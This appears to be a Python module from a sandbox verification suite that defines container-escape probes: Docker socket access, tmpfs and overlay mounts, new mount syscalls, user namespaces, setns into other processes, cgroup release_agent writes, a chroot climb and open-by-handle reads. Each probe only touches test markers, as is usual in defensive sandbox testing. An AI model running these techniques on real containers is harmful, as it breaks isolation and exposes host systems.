"""Container escape surfaces: the Docker socket, mounts, namespaces, the cgroup's release agent, file handles."""

from __future__ import annotations

from crucible_executor.verify.capabilities import DAC_READ_SEARCH, SYS_ADMIN, SYS_CHROOT, SYS_PTRACE
from crucible_executor.verify.model import Attempt, Control, Family

_DOCKER = """
for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
    with socket.socket(socket.AF_UNIX, kind) as s:
        if tried(lambda: (s.connect(AIM["docker"]), True)):
            s.send(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n" + TOKEN.encode())
"""

_MOUNT = """
for target in ("/tmp", "/workspace", "/proc", "/"):
    call("mount", TOKEN, target, "tmpfs", 0, None)
    call("mount", TOKEN, target, "ramfs", 0, None)
hold()
"""

_NEW_MOUNT_API = """
FSCONFIG_SET_STRING, FSCONFIG_CREATE, MOVE_MOUNT_F_EMPTY_PATH = 1, 6, 4
fs = system(430, b"tmpfs", 0)
system(431, fs, FSCONFIG_SET_STRING, b"source", TOKEN.encode(), 0)
system(431, fs, FSCONFIG_CREATE, None, None, 0)
mount = system(432, fs, 0, 0)
system(429, mount, b"", -100, b"/tmp", MOVE_MOUNT_F_EMPTY_PATH)
hold()
"""

_USER_NAMESPACE = """
NEWUSER, NEWNS = 0x10000000, 0x20000
child = os.fork()
if child == 0:
    call("unshare", NEWUSER)
    call("unshare", NEWUSER | NEWNS)
    hold()
    os._exit(0)
os.waitpid(child, 0)
"""

_CLONE = """
for number, flags in ((56, 0x10000000 | 17), (435, 0x10000000)):
    if number == 435:
        args = ctypes.create_string_buffer(struct.pack("<QQQQQ", flags, 0, 0, 0, 17) + bytes(48), 88)
        made = system(435, args, 88)
    else:
        made = system(56, flags, 0, 0, 0, 0)
    if made == 0:
        hold()
        os._exit(0)
    if made > 0:
        os.waitpid(made, 0)
"""

_SETNS = """
for pid in (1, os.getppid(), *AIM["victims"]):
    for name in ("user", "uts", "mnt", "net", "pid", "ipc", "cgroup"):
        fd = tried(os.open, f"/proc/{pid}/ns/{name}", os.O_RDONLY)
        if fd is not None and call("setns", fd, 0) == 0:
            call("sethostname", TOKEN[:32], len(TOKEN[:32]))
call("sethostname", TOKEN[:32], len(TOKEN[:32]))
hold()
"""

_RELEASE_AGENT = """
tried(os.mkdir, "/tmp/cg")
for options in ("", "memory", "rdma", "misc", "pids"):
    call("mount", TOKEN, "/tmp/cg", "cgroup", 0, options)
call("mount", TOKEN, "/tmp/cg", "cgroup2", 0, None)
found = glob.glob("/sys/fs/cgroup/**/release_agent", recursive=True)
for path in [AIM["release_agent"], "/tmp/cg/release_agent"] + found:
    tried(append, path)
hold()
"""

_CHROOT = """
tried(os.mkdir, "jail")
root = tried(os.open, "/", os.O_RDONLY)
tried(os.chroot, "jail")
tried(os.fchdir, root)
for up in ("", "../" * 40):
    tried(append, up + AIM["canary"].lstrip("/"))
tried(os.chroot, "../" * 40 or ".")
tried(append, AIM["canary"])
"""

_HANDLE = """
for folder in ("/", "/workspace", "/tmp", "/proc", "/dev/shm", AIM["folder"]):
    mount = tried(os.open, folder, os.O_RDONLY)
    if mount is None:
        continue
    handle = bytes.fromhex(AIM["handle"])
    buffer = ctypes.create_string_buffer(handle, len(handle))
    for flags in (os.O_RDWR, os.O_RDONLY):
        fd = system(304, mount, buffer, flags)
        if fd >= 0:
            say(os.read(fd, 4096))
"""

_OVERLAY = """
for path in ("/tmp/l", "/tmp/u", "/tmp/w", "/tmp/m"):
    tried(os.mkdir, path)
call("mount", TOKEN, "/tmp/m", "overlay", 0, "lowerdir=/,upperdir=/tmp/u,workdir=/tmp/w")
call("mount", "/", "/tmp/m", None, 0x1000, None)
call("mount", AIM["folder"], "/tmp/m", None, 0x1000, None)
tried(append, "/tmp/m/canary")
call("pivot_root", "/tmp/m", "/tmp/m")
hold()
"""

ATTEMPTS = (
    Attempt(
        "docker-socket", Family.ESCAPE, "the suite's stand-in for the Docker socket is called",
        _DOCKER, ("calls",), Control(bait=True),
    ),
    Attempt(
        "mount", Family.ESCAPE, "a file system is mounted on the host",
        _MOUNT, ("mounts",), Control(capabilities=(SYS_ADMIN,)),
    ),
    Attempt(
        "mount-by-new-calls", Family.ESCAPE, "a file system is mounted by fsopen, fsmount and move_mount",
        _NEW_MOUNT_API, ("mounts",), Control(capabilities=(SYS_ADMIN,)),
    ),
    Attempt(
        "user-namespace", Family.ESCAPE, "the host's kernel makes the program a user namespace by unshare",
        _USER_NAMESPACE, ("privilege",), Control(),
    ),
    Attempt(
        "user-namespace-by-clone", Family.ESCAPE, "the host's kernel makes one by clone or clone3",
        _CLONE, ("privilege",), Control(),
    ),
    Attempt(
        "enter-namespaces", Family.ESCAPE, "the host's name is changed from another's namespace",
        _SETNS, ("names",), Control(capabilities=(SYS_ADMIN, SYS_PTRACE), own_names=True),
    ),
    Attempt(
        "cgroup-release-agent", Family.ESCAPE, "a release agent is set, which the host would run as root",
        _RELEASE_AGENT, ("files",), Control(bait=True),
    ),
    Attempt(
        "chroot-climb", Family.ESCAPE, "a canary of the host is changed from above a nested root",
        _CHROOT, ("files",), Control(bait=True, capabilities=(SYS_CHROOT,)),
    ),
    Attempt(
        "open-by-handle", Family.ESCAPE, "a canary of the host is opened by its file handle",
        _HANDLE, ("files", "leaks"), Control(bait=True, capabilities=(DAC_READ_SEARCH,)),
    ),
    Attempt(
        "bind-the-host", Family.ESCAPE, "the host's folder is mounted inside and its canary changed",
        _OVERLAY, ("files", "mounts"), Control(bait=True, capabilities=(SYS_ADMIN,)),
    ),
)  # fmt: skip
